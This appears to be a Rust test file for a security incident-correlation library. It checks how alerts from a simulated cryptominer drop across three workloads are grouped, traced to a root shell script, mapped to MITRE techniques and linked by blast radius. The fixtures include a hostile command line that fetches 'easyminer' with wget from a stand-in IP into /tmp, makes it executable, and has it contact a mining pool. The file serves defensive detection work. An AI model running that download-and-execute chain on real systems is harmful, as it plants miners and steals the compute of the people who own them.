//! The mission scenario: a miner dropped by a script into three workloads.

mod common;

use common::*;
use saker_event::BString;
use saker_incident::{
    blast_radius, blast_radius_with, correlate, cross_incident_view, join_args, Action,
    BlastConfig, Boundary, BoundaryReason, CorrelateConfig, Incident, Indicator,
};

fn incidents() -> Vec<Incident> {
    correlate(&mission(), &CorrelateConfig::default())
}

fn for_workload<'a>(incs: &'a [Incident], workload: &str) -> &'a Incident {
    incs.iter()
        .find(|i| i.workload.workload.as_deref() == Some(workload))
        .expect("incident for workload")
}

#[test]
fn one_incident_per_workload() {
    let incs = incidents();
    assert_eq!(incs.len(), 3);
    let mut names: Vec<_> = incs
        .iter()
        .map(|i| i.workload.workload.clone().unwrap())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["bedrock-java", "bedrock-java-worker", "payments-api"]
    );
    for (k, inc) in incs.iter().enumerate() {
        let p = format!("w{}", k + 1);
        // Same-time alerts (drift/miner/stratum) tie-break by id.
        let want: Vec<String> = [
            "shell", "wget", "chmod", "drift", "miner", "stratum", "pool",
        ]
        .iter()
        .map(|s| format!("{p}-{s}"))
        .collect();
        assert_eq!(inc.alert_ids, want);
        assert_eq!(inc.start_ns, T0 + 30 * SEC * k as i64);
        assert_eq!(inc.end_ns, inc.start_ns + 4 * SEC);
        assert_eq!(inc.severity, saker_event::Severity::Critical);
        assert_eq!(
            inc.policies,
            [
                "Suspicious Activity",
                "Drift Detection",
                "Malicious Binary Detection"
            ]
        );
        assert_eq!(inc.node, "node-a");
        assert_eq!(inc.cluster, "prod-eu-1");
        assert!(inc.id.starts_with("inc-"));
    }
    let w = &for_workload(&incs, "bedrock-java").workload;
    assert_eq!(w.namespace.as_deref(), Some("risk-10-aws-bedrock-java"));
    assert_eq!(w.pod.as_deref(), Some("bedrock-java-7d9f8c6b5-x2k4p"));
    assert_eq!(w.container.as_deref(), Some("app"));
    assert_eq!(
        w.image.as_deref(),
        Some("docker.io/acme/bedrock-java:1.4.2")
    );
    assert_eq!(
        w.display(),
        "prod-eu-1/risk-10-aws-bedrock-java/bedrock-java/bedrock-java-7d9f8c6b5-x2k4p/app \
         (docker.io/acme/bedrock-java:1.4.2)"
    );
}

#[test]
fn root_cause_is_the_script() {
    for (k, inc) in incidents().iter().enumerate() {
        let c = Chain::at(1000 * (k as u32 + 1));
        let rc = &inc.root_cause;
        assert_eq!(rc.pid, c.script);
        assert_eq!(rc.ppid, c.shim);
        assert_eq!(rc.name, b("sh"));
        assert_eq!(rc.exe, b("/bin/sh"));
        assert_eq!(rc.cmdline, vec![b("sh"), b(SCRIPT)]);
        assert_eq!(join_args(&rc.cmdline), b("sh ./malicious-bin-event-gen.sh"));
        assert_eq!(rc.alert_ids, [format!("w{}-shell", k + 1)]);
        // Stopped below the runtime, not at systemd or beyond.
        match &rc.boundary {
            Boundary::Parent {
                pid, name, reason, ..
            } => {
                assert_eq!(*pid, c.shim);
                assert_eq!(name, &b("containerd-shim"));
                assert_eq!(*reason, BoundaryReason::Plumbing);
            }
            other => panic!("unexpected boundary {other:?}"),
        }
    }
}

#[test]
fn root_cause_found_when_only_children_alert() {
    // Drop the script's own alert: it is then known only from its children's ancestry.
    let alerts: Vec<_> = mission()
        .into_iter()
        .filter(|a| !a.id.ends_with("-shell"))
        .collect();
    let incs = correlate(&alerts, &CorrelateConfig::default());
    assert_eq!(incs.len(), 3);
    let rc = &for_workload(&incs, "bedrock-java").root_cause;
    assert_eq!(rc.pid, Chain::at(1000).script);
    assert_eq!(rc.cmdline, vec![b("sh"), b(SCRIPT)]);
    assert!(rc.alert_ids.is_empty());
    assert!(matches!(rc.boundary, Boundary::Parent { .. }));
}

#[test]
fn attack_path_in_time_order() {
    for (k, inc) in incidents().iter().enumerate() {
        let c = Chain::at(1000 * (k as u32 + 1));
        let path = &inc.attack_path;
        let names: Vec<BString> = path.nodes.iter().map(|n| n.name.clone()).collect();
        assert_eq!(names, [b("sh"), b("wget"), b("chmod"), b("easyminer")]);
        assert_eq!(path.roots, [c.script]);
        let pos = |pid| path.position(pid).unwrap();
        assert!(pos(c.wget) < pos(c.chmod) && pos(c.chmod) < pos(c.miner));
        let times: Vec<i64> = path.nodes.iter().map(|n| n.first_seen_ns).collect();
        assert!(times.windows(2).all(|w| w[0] <= w[1]));

        let root = path.node(c.script).unwrap();
        assert_eq!((root.depth, root.parent, root.ppid), (0, None, c.shim));
        for pid in [c.wget, c.chmod, c.miner] {
            let n = path.node(pid).unwrap();
            assert_eq!((n.depth, n.parent, n.ppid), (1, Some(c.script), c.script));
        }
        assert_eq!(path.children(c.script).count(), 3);

        let wget = path.node(c.wget).unwrap();
        assert_eq!(wget.techniques, ["T1105"]);
        assert_eq!(wget.tactics, ["TA0011"]);
        assert_eq!(
            join_args(&wget.cmdline),
            b("wget http://203.0.113.7/easyminer -O /tmp/easyminer")
        );
        let chmod = path.node(c.chmod).unwrap();
        assert_eq!(chmod.techniques, ["T1222.002"]);
        assert!(matches!(
            &chmod.steps[0].action,
            Action::File { path, mode: 0o755, .. } if path == &b("/tmp/easyminer")
        ));
        let miner = path.node(c.miner).unwrap();
        assert_eq!(miner.exe, b("/tmp/easyminer"));
        assert_eq!(miner.exe_sha256.as_deref(), Some(MINER_SHA));
        assert_eq!(miner.techniques, ["T1204.002", "T1496"]);
        assert_eq!(miner.rules.len(), 4);
        assert_eq!(miner.steps.len(), 4);
        let last = miner.steps.last().unwrap();
        assert!(matches!(
            last.action,
            Action::Connect { port: 3333, addr, .. } if addr.is_loopback()
        ));
        assert_eq!(last.event_seq, 100 * (k as u64 + 1) + 4);
    }
}

#[test]
fn techniques_tied_to_alerts() {
    let incs = incidents();
    let inc = for_workload(&incs, "bedrock-java");
    let tech = |id: &str| {
        inc.techniques
            .iter()
            .find(|t| t.id == id)
            .unwrap_or_else(|| panic!("{id} missing"))
    };
    assert_eq!(tech("T1059.004").alert_ids, ["w1-shell"]);
    assert_eq!(tech("T1105").alert_ids, ["w1-wget"]);
    assert_eq!(tech("T1222.002").alert_ids, ["w1-chmod"]);
    assert_eq!(tech("T1204.002").alert_ids, ["w1-drift"]);
    assert_eq!(
        tech("T1496").alert_ids,
        ["w1-miner", "w1-stratum", "w1-pool"]
    );
    assert_eq!(tech("T1496").tactics, ["TA0040"]);
    assert_eq!(tech("T1105").first_seen_ns, T0 + SEC);
    // First-appearance order follows the attack.
    let order: Vec<&str> = inc.techniques.iter().map(|t| t.id.as_str()).collect();
    assert_eq!(
        order,
        ["T1059.004", "T1105", "T1222.002", "T1204.002", "T1496"]
    );

    let tactic = |id: &str| inc.tactics.iter().find(|t| t.id == id).unwrap();
    assert_eq!(tactic("TA0002").alert_ids, ["w1-shell", "w1-drift"]);
    assert_eq!(tactic("TA0002").techniques, ["T1059.004", "T1204.002"]);
    assert_eq!(tactic("TA0011").alert_ids, ["w1-wget"]);
    assert_eq!(tactic("TA0005").alert_ids, ["w1-chmod"]);
    assert_eq!(
        tactic("TA0040").alert_ids,
        ["w1-miner", "w1-stratum", "w1-pool"]
    );
}

#[test]
fn blast_radius_spans_three_workloads() {
    let incs = incidents();
    for anchor in &incs {
        let wl = blast_radius(&incs, anchor);
        assert_eq!(wl.len(), 3, "{wl:?}");
        assert_eq!(wl[0], anchor.workload);
        let mut names: Vec<_> = wl.iter().map(|w| w.workload.clone().unwrap()).collect();
        names.sort();
        assert_eq!(
            names,
            ["bedrock-java", "bedrock-java-worker", "payments-api"]
        );
        assert_eq!(
            wl.iter()
                .filter(|w| w.namespace.as_deref() == Some("risk-10-aws-bedrock-java"))
                .count(),
            2
        );
        // The embedded copy agrees.
        let embedded: Vec<_> = anchor
            .affected_workloads
            .iter()
            .map(|a| (*a.workload).clone())
            .collect();
        assert_eq!(embedded, wl);
        assert!(anchor.affected_workloads[0].anchor);
        for other in &anchor.affected_workloads[1..] {
            assert!(!other.anchor);
            let shared: Vec<&Indicator> = other
                .shared
                .iter()
                .map(|&k| &anchor.indicators[k])
                .collect();
            assert!(shared.contains(&&Indicator::BinaryHash(MINER_SHA.into())));
            assert!(shared.contains(&&Indicator::RootCommand(vec![b("sh"), b(SCRIPT)])));
            assert!(shared.contains(&&Indicator::Rule(POOL.name.into())));
        }
    }

    // The hash alone is enough; image binaries (sh, wget) are not indicators.
    let only_hash = BlastConfig {
        by_rule: false,
        by_root_command: false,
        ..BlastConfig::default()
    };
    let a = blast_radius_with(&incs, &incs[0], &only_hash);
    assert_eq!(a.len(), 3);
    assert!(a[1..].iter().all(|w| w.shared.len() == 1
        && incs[0].indicators[w.shared[0]] == Indicator::BinaryHash(MINER_SHA.into())));
    let hashes: Vec<_> = incs[0]
        .indicators
        .iter()
        .filter(|i| matches!(i, Indicator::BinaryHash(_)))
        .collect();
    assert_eq!(hashes.len(), 1);

    // Outside the window nothing is shared.
    let narrow = BlastConfig {
        window_ns: 0,
        ..BlastConfig::default()
    };
    assert_eq!(blast_radius_with(&incs, &incs[0], &narrow).len(), 1);
}

#[test]
fn cross_incident_view_lists_the_miner_everywhere() {
    let incs = incidents();
    let view = cross_incident_view(&incs, &BlastConfig::default());
    let miner = &view[0];
    assert_eq!(miner.indicator, Indicator::BinaryHash(MINER_SHA.into()));
    let ids: Vec<&str> = incs.iter().map(|i| i.id.as_str()).collect();
    assert_eq!(miner.incident_ids, ids);
    assert_eq!(miner.workloads.len(), 3);
    assert_eq!(miner.first_ns, T0);
    assert_eq!(miner.last_ns, T0 + 64 * SEC);
    assert!(view
        .iter()
        .any(|s| s.indicator == Indicator::Rule(POOL.name.into()) && s.incident_ids.len() == 3));
}

#[test]
fn stable_and_order_independent() {
    let a = incidents();
    let mut rev = mission();
    rev.reverse();
    let b = correlate(&rev, &CorrelateConfig::default());
    assert_eq!(a, b);
    let ids: Vec<&str> = a.iter().map(|i| i.id.as_str()).collect();
    let mut uniq = ids.clone();
    uniq.dedup();
    assert_eq!(ids, uniq);
}

#[test]
fn serde_round_trips() {
    let incs = incidents();
    let json = serde_json::to_string(&incs).unwrap();
    let back: Vec<Incident> = serde_json::from_str(&json).unwrap();
    assert_eq!(back, incs);
    let cfg = bincode::config::standard();
    let bin = bincode::serde::encode_to_vec(&incs, cfg).unwrap();
    let (back, _): (Vec<Incident>, usize) = bincode::serde::decode_from_slice(&bin, cfg).unwrap();
    assert_eq!(back, incs);
}
